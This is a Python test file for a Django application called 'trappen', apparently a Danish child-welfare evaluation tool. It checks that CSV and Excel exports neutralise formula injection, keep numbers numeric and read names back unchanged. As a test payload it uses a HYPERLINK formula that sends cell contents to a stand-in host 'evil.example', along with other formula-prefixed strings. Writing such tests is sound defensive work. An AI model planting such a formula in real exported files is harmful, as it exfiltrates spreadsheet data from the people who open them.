"""F6 point 8 (a, e): every workbook and CSV file trappen writes is safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel and LibreOffice (CSV injection, OWASP). trappen writes such text cells neutralised: in a
CSV file with a leading apostrophe (which trappen's reader takes off again), in a workbook as a
string cell with Excel's quote prefix. Numbers, negative ones too, stay numbers.
"""

# ruff: noqa: F811  (fixtures imported from the tests' other conftest files)

import csv
import tempfile
import zipfile
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path

import polars as pl
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from trappen.core.dataset import Dataset
from trappen.core.interchange import equal, read_dataset, write_dataset
from trappen.organisation.models import District, DistrictGroup, Team

from ..evaluation.conftest import FILES, placed  # noqa: F401  (a fixture)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
DANGEROUS = [FORMULA, "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2"]
YEAR = {"start": "2015-01-01", "end": "2015-12-31"}


def formulas_in(xlsx: bytes) -> list[str]:
    """Every formula element of every sheet of the workbook, read from its XML."""
    with zipfile.ZipFile(BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and b"<f>" in archive.read(name)
            or name.startswith("xl/worksheets/")
            and b"<f " in archive.read(name)
        ]


def texts_of(xlsx: bytes) -> list[object]:
    book = load_workbook(BytesIO(xlsx))
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_district_formula_is_not_live_in_workbook(placed):
    """A district named like a formula, grouped by district: the web download."""
    District.objects.filter(pk=placed.d_north.pk).update(name=FORMULA)
    DistrictGroup.objects.filter(name="Pilot").update(name="@SUM(1+1)")
    response = placed.client(placed.analyst).get(
        reverse("evaluation:workbook"), {**YEAR, "group_by": "district"}
    )
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    book = load_workbook(BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value == FORMULA]
    assert named, "the district's name is in the workbook, as text"
    assert all(c.data_type == "s" and c.quotePrefix for c in named)


def test_district_formula_is_not_live_in_evaluate_xlsx(tmp_path):
    """`trappen evaluate FOLDER --xlsx`: a (quoted) formula name from the files stays text."""
    for name, text in FILES.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    # The name as a spreadsheet that protects it writes it: quoted, with a leading apostrophe.
    districts = (tmp_path / "districts.csv").read_text(encoding="utf-8")
    children = (tmp_path / "children.csv").read_text(encoding="utf-8")
    quoted = "\"'" + FORMULA.replace('"', '""') + '"'
    (tmp_path / "districts.csv").write_text(districts.replace("Nordby", quoted), encoding="utf-8")
    (tmp_path / "children.csv").write_text(children.replace("Nordby", quoted), encoding="utf-8")
    out = tmp_path / "kora.xlsx"
    call_command(
        "evaluate", str(tmp_path), "--from", "2015-01-01", "--to", "2015-12-31",
        "--group-by", "district", "--xlsx", str(out), stdout=StringIO(),
    )  # fmt: skip
    content = out.read_bytes()
    assert formulas_in(content) == []
    assert FORMULA in texts_of(content)


def test_control_characters_in_a_name_do_not_break_the_workbook(placed):
    District.objects.filter(pk=placed.d_north.pk).update(name="Nord\x01by\x1b")
    response = placed.client(placed.analyst).get(
        reverse("evaluation:workbook"), {**YEAR, "group_by": "district"}
    )
    assert response.status_code == 200
    assert "Nordby" in texts_of(response.content)


def test_workbook_numbers_stay_numbers(placed):
    response = placed.client(placed.analyst).get(reverse("evaluation:workbook"), YEAR)
    book = load_workbook(BytesIO(response.content))
    numbers = [
        c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
        if isinstance(c.value, (int, float))
    ]  # fmt: skip
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_neutralise_workbook_leaves_negative_numbers_alone():
    from trappen.evaluation.xlsx import neutralise_workbook

    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["A2"], sheet["A3"] = -12.5, "-12,5 %", "=1+1"
    neutralise_workbook(book)
    assert (sheet["A1"].value, sheet["A1"].data_type) == (-12.5, "n")
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == (
        "-12,5 %", "s", True
    )  # fmt: skip
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")


def test_export_csv_neutralises_formula_cells(org, tmp_path):
    """`trappen export`: text cells that a spreadsheet would run get a leading apostrophe."""
    District.objects.filter(pk=org.d_north.pk).update(name=FORMULA)
    DistrictGroup.objects.filter(name="Pilot").update(name="+Pilot")
    Team.objects.filter(pk=org.north.pk).update(name="@Team Nord")
    org.case(org.child(district=District.objects.get(pk=org.d_north.pk)))
    call_command("export", str(tmp_path / "out"), stdout=StringIO())
    rows = list(csv.reader((tmp_path / "out" / "districts.csv").open(encoding="utf-8")))
    assert ["'" + FORMULA, "'+Pilot", "'@Team Nord"] in rows
    every_cell = [
        cell
        for f in (tmp_path / "out").glob("*.csv")
        for row in csv.reader(f.open(encoding="utf-8"))
        for cell in row
    ]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # trappen reads its own export back: the apostrophe goes, the name is as it was.
    ds = read_dataset(tmp_path / "out")
    assert ds.districts["district"].to_list()[0] == FORMULA
    assert ds.cases["team"].to_list() == ["@Team Nord"]


def _episode(cost: float, intervention: str) -> Dataset:
    return Dataset.from_frames(
        {
            "episodes": pl.DataFrame(
                {
                    "episode_id": ["e"],
                    "child_id": ["c"],
                    "step": [1],
                    "placement_type": [None],
                    "intervention": [intervention],
                    "start_date": [date(2020, 1, 2)],
                    "daily_cost": [cost],
                }
            ),
        }
    )


def test_export_csv_keeps_negative_numbers_numbers(tmp_path):
    write_dataset(_episode(-5.0, "-Familiebehandling"), tmp_path)
    row = list(csv.reader((tmp_path / "episodes.csv").open(encoding="utf-8")))[1]
    assert row[4] == "'-Familiebehandling"
    assert row[-1] == "-5"


def test_export_excel_has_bom(org, tmp_path):
    """`trappen export --excel`: UTF-8 with a byte-order mark and `;` between the cells, for
    Excel on Windows with Danish settings; trappen reads it back as the plain export."""
    org.case(org.child())
    call_command("export", str(tmp_path / "plain"), stdout=StringIO())
    out = StringIO()
    call_command("export", str(tmp_path / "excel"), "--excel", stdout=out)
    assert "Excel" in out.getvalue()
    data = (tmp_path / "excel" / "districts.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[:2] == [
        "district;group;team",
        "Nordby;Pilot;Team Nord",
    ]
    assert "Øvrige" in data.decode("utf-8-sig")
    assert equal(read_dataset(tmp_path / "excel"), read_dataset(tmp_path / "plain"))


# --- Laws -------------------------------------------------------------------------------------

names = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    min_size=1,
    max_size=12,
).filter(lambda s: s == s.strip())
risky = st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "'", "''", "'="]), names)


def _named(name: str) -> Dataset:
    """A district, a team and an intervention called `name`, and a child and a case to join."""
    child = "c" + name  # a child's id must not look like a CPR number
    frames = {
        "districts": {"district": [name], "group": [name], "team": [name]},
        "children": {
            "child_id": [child], "birth_date": [date(2012, 4, 17)], "sex": ["female"],
            "district": [name],
        },
        "cases": {
            "case_id": [name], "child_id": [child], "team": [name],
            "opened": [date(2020, 1, 1)], "caseworker": [name],
        },
        "episodes": {
            "episode_id": [name], "child_id": [child], "step": [1], "placement_type": [None],
            "intervention": [name], "start_date": [date(2020, 1, 2)], "daily_cost": [2.332],
        },
    }  # fmt: skip
    return Dataset.from_frames({t: pl.DataFrame(f) for t, f in frames.items()})


@settings(max_examples=150, deadline=None)
@given(name=st.one_of(risky, names), excel=st.booleans())
def test_any_neutralised_cell_round_trips(name, excel):
    """Whatever a name, trappen writes it so no spreadsheet runs it and reads it back as it was
    (and a cost of 2.332 kr. as one that cannot be taken for 2,332)."""
    ds = _named(name)
    with tempfile.TemporaryDirectory(prefix="f6-") as tmp:
        write_dataset(ds, Path(tmp), excel=excel)
        for table in ("districts", "children", "cases", "episodes"):
            text = (Path(tmp) / f"{table}.csv").read_text(encoding="utf-8-sig")
            delimiter = ";" if excel else ","
            row = list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))[1]
            assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert equal(read_dataset(Path(tmp)), ds)


@settings(max_examples=100, deadline=None)
@given(text=st.text(max_size=20), number=st.floats(allow_nan=False, allow_infinity=False))
def test_no_string_is_ever_a_formula_in_a_workbook(text, number):
    from trappen.evaluation.xlsx import neutralise_workbook

    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["A2"] = ILLEGAL_CHARACTERS_RE.sub("", text), number
    neutralise_workbook(book)
    assert sheet["A1"].data_type != "f"
    assert sheet["A2"].data_type == "n"
